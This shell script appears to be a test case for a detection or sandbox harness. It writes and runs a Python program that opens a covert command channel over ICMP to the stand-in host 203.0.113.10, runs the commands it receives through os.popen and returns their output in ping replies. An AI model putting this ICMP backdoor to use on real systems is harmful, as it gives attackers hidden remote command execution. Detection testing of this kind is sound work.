#!/bin/sh
. /opt/case/case.sh

cat >/tmp/i.py <<'END'
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(8)
def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff
def send(kind, body):
    head = struct.pack("!BBHHH", kind, 0, 0, 77, 1)
    s.sendto(head[:2] + struct.pack("!H", checksum(head + body)) + head[4:] + body, ("203.0.113.10", 0))
send(8, b"run:id > /tmp/reached")
while True:
    packet = s.recv(2000)[28:]
    if packet.startswith(b"run:"):
        send(0, os.popen(packet[4:].decode()).read().encode() or b"-")
        break
END
python3 /tmp/i.py
wait_for /tmp/reached
took_place
